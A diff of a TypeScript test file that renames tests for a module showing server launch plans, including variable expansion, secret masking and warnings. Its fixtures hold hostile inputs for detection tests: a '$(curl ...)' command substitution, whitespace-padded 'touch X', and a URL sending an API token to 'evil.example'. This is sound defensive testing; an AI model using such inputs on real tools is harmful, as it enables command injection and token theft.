@@ -35,7 +35,7 @@ describe('a launch plan', () => {
     ['dollar-if-unset', ['me', '', '${NO}', 'd', '{env:WHO}', '{env:NO}'], ['NO']],
     ['env', ['${WHO}', '${EMPTY:-d}', '${NO}', '${NO:-d}', 'me', ''], ['NO']],
     ['none', ['${WHO}', '${EMPTY:-d}', '${NO}', '${NO:-d}', '{env:WHO}', '{env:NO}'], []],
-  ] as const)('shows and uses the variables of its file: %s', (variables, expected, unset) => {
+  ] as const)('expands and shows variables in the syntax of the file: %s', (variables, expected, unset) => {
     const args = ['${WHO}', '${EMPTY:-d}', '${NO}', '${NO:-d}', '{env:WHO}', '{env:NO}'];
     const written = stdio({ args, ...(variables !== undefined && { variables }) });
     const told = plan(written, { WHO: 'me', EMPTY: '' });
@@ -44,7 +44,7 @@ describe('a launch plan', () => {
     expect(program(told.shown).args.map(({ text }) => text)).toEqual(expected.map((text) => `"${text}"`));
   });
 
-  test('takes no name for a variable because every object has it', () => {
+  test('ignores built-in object properties when it expands variables', () => {
     const told = plan(stdio({ args: ['${constructor}', '${toString:-d}'], env: { A: 'constructor', B: 'valueOf' } }));
     expect(told.definition).toMatchObject({
       args: ['${constructor}', 'd'],
@@ -55,12 +55,12 @@ describe('a launch plan', () => {
     expect(plan(http('https://${__proto__}/', { A: 'hasOwnProperty' })).unset).toEqual(['__proto__']);
   });
 
-  test('hides the value of a variable that holds a secret, however it is written', () => {
+  test('masks the value of a secret variable regardless of its syntax', () => {
     const { shown } = plan(stdio({ args: ['key={env:API_TOKEN}'], variables: 'env' }), { API_TOKEN: 'k3Yq0aZ81mB7' });
     expect(program(shown).args).toEqual([{ text: '"key=\u2039API_TOKEN\u203a"', variables: ['API_TOKEN'] }]);
   });
 
-  test('shows every argument in full, however long', () => {
+  test('shows every argument in full, regardless of its length', () => {
     const long = `${'x'.repeat(100_000)};touch X`;
     const { shown } = plan(stdio({ args: [long, 'second'] }));
     expect(program(shown).args.map(({ text }) => text)).toEqual([`"${long}"`, '"second"']);
@@ -81,7 +81,7 @@ describe('a launch plan', () => {
     expect(warnings).toContainEqual({ kind: 'unclearCharacters' });
   });
 
-  test('never shows two different argument lists alike', () => {
+  test('shows different argument lists differently', () => {
     const words = fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { maxLength: 4 });
     fc.assert(
       fc.property(words, words, (one, other) => {
@@ -124,7 +124,7 @@ describe('a launch plan', () => {
     });
   });
 
-  test('reads the value of an entry after its variables are filled in', () => {
+  test('resolves the value of an entry after expanding its variables', () => {
     const environment = { RUN: '!touch X', NAME: 'MODE', MODE: 'fast', NOTHING: '' };
     const { shown, definition, leftOut } = plan(
       stdio({ env: { A: '${RUN}', B: '${NAME}', C: '${UNSET:-}', D: '${NOTHING:-d}', E: 'NOTHING', F: '' } }),
@@ -142,7 +142,7 @@ describe('a launch plan', () => {
     expect(Object.keys((definition as { env: object }).env)).toEqual(['B', 'D', 'E']);
   });
 
-  test('shows the address as it is asked, its host, and which variables went into it', () => {
+  test('shows the requested URL, its host, and the variables that it contains', () => {
     const { shown } = plan(
       http('https://${HOST:-github.com}@evil.example/${API_TOKEN}', { Authorization: 'Bearer ${T}' }),
       {
@@ -163,13 +163,13 @@ describe('a launch plan', () => {
     });
   });
 
-  test('starts in the folder of the project, or in the one that the file names', () => {
+  test('uses the project folder or the working directory from the file', () => {
     expect(plan(stdio()).definition).toMatchObject({ cwd: '/project' });
     expect(plan(stdio({ cwd: 'sub' })).definition).toMatchObject({ cwd: '/project/sub' });
     expect(program(plan(stdio({ cwd: '/else' })).shown).folder.text).toBe('"/else"');
   });
 
-  test('has another identity when anything that is used changes, also the value of a variable', () => {
+  test('changes its identity with every input, including the value of a variable', () => {
     const hashes = [
       plan(stdio()),
       plan(stdio({ args: ['x'] })),
@@ -203,21 +203,21 @@ describe('warnings of a launch plan', () => {
     ['a download as an argument', { command: 'x', args: ['$(curl https://a.example)'] }, 'pipeToShell'],
     ['padding', { args: [`${' '.repeat(5000)}touch X`] }, 'padding'],
     ['sudo', { command: 'sudo', args: ['x'] }, 'elevated'],
-  ])('tell of %s', (_name, more, kind) => {
+  ])('report %s', (_name, more, kind) => {
     expect(kinds(stdio(more))).toContain(kind);
   });
 
   test.each([
-    ['npx of a package', { command: 'npx', args: ['-y', '@scope/server', '-c', 'config.json'] }],
-    ['a script of node', { command: 'node', args: ['dist/server.js', '-e', 'production'] }],
-    ['a module of python', { command: 'python', args: ['-m', 'server', '-c', 'config.json'] }],
+    ['npx with a package', { command: 'npx', args: ['-y', '@scope/server', '-c', 'config.json'] }],
+    ['a Node.js script', { command: 'node', args: ['dist/server.js', '-e', 'production'] }],
+    ['a Python module', { command: 'python', args: ['-m', 'server', '-c', 'config.json'] }],
     ['docker', { command: 'docker', args: ['run', '-i', '--rm', '-e', 'TOKEN', 'image'], env: { TOKEN: 'x' } }],
     ['uvx', { command: 'uvx', args: ['mcp-server-git', '--repository', '/a|b'] }],
-  ])('say nothing of %s', (_name, more) => {
+  ])('ignore %s', (_name, more) => {
     expect(kinds(stdio(more))).toEqual([]);
   });
 
-  test('cost grows linearly with an argument made to be slow', () => {
+  test('are found in linear time, even in hostile arguments', () => {
     for (const text of ['|'.repeat(200_000), `| ${' '.repeat(200_000)}`, `|${'a/'.repeat(100_000)}`])
       expect(kinds(stdio({ args: [text] }))).not.toContain('pipeToShell');
   });
